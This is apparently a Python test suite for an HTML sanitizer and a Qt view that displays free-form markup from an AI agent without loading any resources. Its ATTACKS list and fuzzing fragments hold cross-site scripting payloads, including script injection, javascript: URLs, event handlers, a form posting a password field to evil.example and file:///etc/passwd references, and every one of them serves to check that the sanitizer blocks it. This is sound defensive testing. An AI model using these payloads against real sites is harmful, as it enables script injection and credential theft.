"""Free-form HTML: the allow-list sanitizer, a view that loads nothing, and the side-by-side comparison."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from agent_core.genui.sanitizer import ALLOWED_TAGS
from ui_patterns.genui import samples
from ui_patterns.genui.freeform import FreeformView, SideBySide, render_freeform_html, sanitize_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src='file:///etc/passwd'>",
    '<iframe src="https://evil.example"><p>inside</p></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
    '<p onclick="alert(1)" onmouseover=alert(2)>text</p>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<span style="color: expression(alert(1))">x</span>',
    "<style>body { background: url(http://evil.example) }</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<!--<script>alert(1)</script>-->",
    '<form action="http://evil.example"><input name="pw"></form>',
    "<p>unclosed <b>bold",
]


def _tags_and_attrs(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Collector().feed(markup)
    return found


def _assert_safe(clean: str) -> None:
    lowered = clean.lower()
    assert "<script" not in lowered
    for tag, attrs in _tags_and_attrs(clean):
        assert tag in ALLOWED_TAGS
        for name, value in attrs:
            assert not name.startswith("on")
            assert "javascript" not in (value or "").lower() and "url(" not in (value or "").lower()
            if name == "href":
                assert (value or "").startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_removed_or_escaped(attack: str) -> None:
    clean = sanitize_html(attack)
    _assert_safe(clean)
    assert "alert(2)" not in clean  # script content inside svg is dropped


def test_allowed_markup_survives() -> None:
    markup = (
        '<h2 style="color: #c0392b; position: fixed">Title</h2><p>a <b>b</b> <em>c</em></p>'
        '<a href="https://example.com/x?y=1" target="_blank">link</a><table><tr><td colspan="2">cell</td></tr></table>'
    )
    assert sanitize_html(markup) == (
        '<h2 style="color: #c0392b">Title</h2><p>a <b>b</b> <em>c</em></p>'
        '<a href="https://example.com/x?y=1">link</a><table><tr><td colspan="2">cell</td></tr></table>'
    )


def test_unknown_tags_are_escaped_as_text_and_unclosed_tags_closed() -> None:
    assert sanitize_html("<marquee>hi</marquee>") == "&lt;marquee&gt;hi&lt;/marquee&gt;"
    assert sanitize_html("<p>unclosed <b>bold") == "<p>unclosed <b>bold</b></p>"
    assert sanitize_html("a < b & c") == "a &lt; b &amp; c"
    assert sanitize_html('<a href="javascript:x">t</a>') == "<a>t</a>"


FRAGMENTS = st.sampled_from(
    ["<", ">", "/", "script", "<script>", "</script", "<img src=x onerror=alert(1)>", "javascript:", "<!--",
     "-->", "<![CDATA[", "&lt;", "&#60;", '"', "'", "=", "<a href='", "<p ", "s", "c", "r", "i", "p", "t", " "]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(), st.lists(st.one_of(FRAGMENTS, st.text(max_size=3)), max_size=40).map("".join)))
def test_sanitize_never_raises_and_never_emits_script(text: str) -> None:
    clean = sanitize_html(text)
    assert isinstance(clean, str)
    _assert_safe(clean)


def test_freeform_view_never_loads_resources(qtbot) -> None:
    view = FreeformView()
    qtbot.addWidget(view)
    assert not view.openLinks() and not view.openExternalLinks()
    view.set_markup('<p>hi</p><img src="http://example.com/a.png"><link rel=stylesheet href="x.css">')
    assert "<img" not in view.markup() and view.blocked_resources() == []
    # Even markup that bypasses the sanitizer cannot load anything.
    view.document().setHtml('<img src="http://example.com/a.png"><img src="file:///etc/passwd">')
    view.grab()
    assert {"http://example.com/a.png", "file:///etc/passwd"} <= set(view.blocked_resources())
    image = view.document().resource(QTextDocument.ResourceType.ImageResource, QUrl("file:///etc/passwd"))
    assert image is None


def test_freeform_view_reports_links_without_following_them(qtbot) -> None:
    view = FreeformView()
    qtbot.addWidget(view)
    view.set_markup('<a href="https://example.com">x</a>')
    with qtbot.waitSignal(view.link_clicked, timeout=1000) as blocker:
        view.anchorClicked.emit(QUrl("https://example.com"))
    assert blocker.args == ["https://example.com"]
    assert view.source().isEmpty()


@pytest.mark.parametrize(
    ("tool_name", "args"), [*samples.CALLS, ("lookup_company", {"d": "<script>x</script>"})]
)
def test_render_freeform_html_is_deterministic_and_safe(tool_name: str, args: dict) -> None:
    markup = render_freeform_html(tool_name, args)
    assert markup == render_freeform_html(tool_name, args)
    assert markup == sanitize_html(markup)
    _assert_safe(markup)


def test_render_freeform_html_escapes_agent_text() -> None:
    markup = render_freeform_html("show_weather", {**samples.WEATHER, "location": "<b onclick=x>Lisbon</b>"})
    assert "&lt;b onclick=x&gt;Lisbon&lt;/b&gt;" in markup


def test_side_by_side_shows_both_renderings(qtbot, text_of) -> None:
    side = SideBySide("show_weather", {"location": "Lis"}, partial=True)
    qtbot.addWidget(side)
    assert side.host().chip_text() == "streaming"
    side.set_args(samples.WEATHER)
    assert "Lisbon" in text_of(side.host())
    assert "Lisbon" in side.freeform().toPlainText()
    assert "Wed" in side.freeform().toPlainText()
